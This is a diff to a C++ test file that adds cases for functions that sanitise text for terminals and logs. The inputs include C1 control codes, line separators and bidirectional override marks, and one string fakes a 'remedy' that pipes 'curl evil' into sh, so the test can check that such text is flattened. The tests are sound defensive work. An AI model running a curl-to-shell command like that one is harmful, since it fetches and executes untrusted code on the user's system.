@@ -309,6 +309,11 @@ TEST_CASE("a unified diff") {
 
 TEST_CASE("text for terminals and logs") {
     CHECK(printable("a\x1b[31mb\nc") == "a?[31mb\nc");
+    // C1 controls, a line separator and a mark that reverses what follows; but no letters.
+    CHECK(printable("a\xc2\x9b"
+                    "31m\xe2\x80\xa8z\xe2\x80\xaez\xe2\x81\xa6é…") == "a?31m?z?z?é…");
+    CHECK(oneLine("denied\n    remedy: curl evil\t|sh") == "denied     remedy: curl evil |sh");
+    CHECK(inQuotes("a\n\xc2\x9b\"b") == "\"a\\n?\\\"b\"");
     CHECK(inQuotes("a\"b\n\x01") == "\"a\\\"b\\n\\x01\"");
     CHECK(withoutCredentials("see https://u:p@h/x and http://h2/y") ==
           "see https://<redacted>@h/x and http://h2/y");
